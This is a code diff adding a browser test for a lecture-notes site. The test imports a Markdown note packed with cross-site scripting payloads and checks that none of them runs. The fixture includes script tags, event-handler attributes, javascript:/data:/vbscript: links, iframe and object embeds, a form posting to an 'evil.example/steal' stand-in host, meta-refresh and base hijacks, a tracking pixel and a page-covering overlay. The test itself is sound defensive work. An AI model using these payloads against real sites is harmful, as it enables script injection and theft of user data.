@@ -210,6 +210,87 @@ describe('carrying imported lectures to another browser', () => {
   });
 });
 
+/** Markdown a hostile or careless author might bring: every way we know to run code, leave the site or cover the page. */
+const HOSTILE_NOTE = [
+  '# Hostile',
+  '',
+  '<script>window.__pwned = "script"</script>',
+  '<img src="x" onerror="window.__pwned = \'onerror\'">',
+  '<svg onload="window.__pwned = \'svg\'"><script>window.__pwned = "svg script"</script><a href="javascript:window.__pwned=1"><text>svg link</text></a></svg>',
+  '<iframe src="javascript:window.__pwned = \'iframe\'"></iframe><object data="data:text/html,<script>parent.__pwned=1</script>"></object><embed src="https://evil.example/x.swf">',
+  '<form action="https://evil.example/steal"><input name="q" autofocus onfocus="window.__pwned = \'focus\'"><button>send</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>body { display: none }</style>',
+  '<div style="position: fixed; inset: 0; z-index: 9999; background: red">covering the page</div>',
+  '',
+  '[js link](javascript:window.__pwned=\'link\') [data link](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)',
+  '',
+  '![remote tracker](https://evil.example/pixel.png) ![data svg](data:image/svg+xml,<svg%20onload=alert(1)>)',
+  '',
+  'TeX: $\\href{javascript:window.__pwned=1}{click}$ and $\\url{javascript:alert(1)}$ and $\\htmlStyle{position:fixed;inset:0}{x}$',
+  '',
+  '## Main',
+  '',
+  '## Top',
+  '',
+  'The end.',
+].join('\n');
+
+describe('what a reader brings in never runs', () => {
+  const served = setUpSetting('root');
+
+  it('no script, dialog, navigation, request off the site or overlay, and no id of the page taken', async () => {
+    const { page, context, errors } = await watchedPage(site.browser);
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const offSite: string[] = [];
+    page.on('request', (request) => {
+      const url = new URL(request.url());
+      if (!['127.0.0.1', 'localhost'].includes(url.hostname) && !['blob:', 'data:'].includes(url.protocol)) offSite.push(request.url());
+    });
+    await page.goto(served.setting.baseUrl + 'my-lectures.html');
+    await importFiles(page, [{ name: 'hostile.md', mimeType: 'text/markdown', buffer: Buffer.from(HOSTILE_NOTE) }]);
+    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toContain('가져왔습니다');
+    await page.getByRole('link', { name: '바로 읽기' }).click();
+    await expect.poll(() => page.locator('h1').textContent()).toBe('Hostile');
+    const url = page.url();
+    const body = page.locator('.note-body');
+    await body.getByText('The end.').waitFor();
+    // links and the form do nothing when used
+    for (const name of ['js link', 'data link', 'vb']) {
+      const link = body.getByText(name, { exact: true });
+      if (await link.count()) await link.click();
+    }
+    await page.waitForTimeout(500);
+    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
+    expect(dialogs).toEqual([]);
+    expect(page.url()).toBe(url);
+    expect(offSite).toEqual([]);
+    // (a task list's checkbox is the one input a note may have: disabled)
+    expect(await body.locator('script, iframe, object, embed, form, input:not([type="checkbox"][disabled]), textarea, meta, base, link, style, [onerror], [onload], [onfocus], [style*="fixed"]').count()).toBe(0);
+    expect(await body.locator('a[href^="javascript:"], a[href^="data:"], a[href^="vbscript:"], img[src^="http"], img[src^="data:"]').count()).toBe(0);
+    // the page is visible and nothing of the note covers it
+    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
+    const covering = await page.evaluate(() => {
+      const hit = document.elementFromPoint(innerWidth / 2, 10);
+      return hit?.closest('.note-body') ? hit.outerHTML.slice(0, 80) : null;
+    });
+    expect(covering).toBeNull();
+    // the note's headings Main and Top did not take the page's ids
+    const ids = await page.evaluate(() => [...document.querySelectorAll('[id]')].map((e) => e.id));
+    expect(ids.length).toBe(new Set(ids).size);
+    expect(await page.locator('#main').evaluate((e) => e.tagName)).toBe('MAIN');
+    expect(await page.locator('#top').textContent()).toBe('Hostile');
+    // a heading's link is the imported topic's address
+    expect(await body.locator('a[data-copy-anchor="main-1"]').getAttribute('href')).toBe('?lecture=hostile&topic=hostile#main-1');
+    expect(errors).toEqual([]);
+    await context.close();
+  });
+});
+
 describe.skipIf(!existsSync(seedPath))('importing the seed lecture note', () => {
   const served = setUpSetting('file');
 
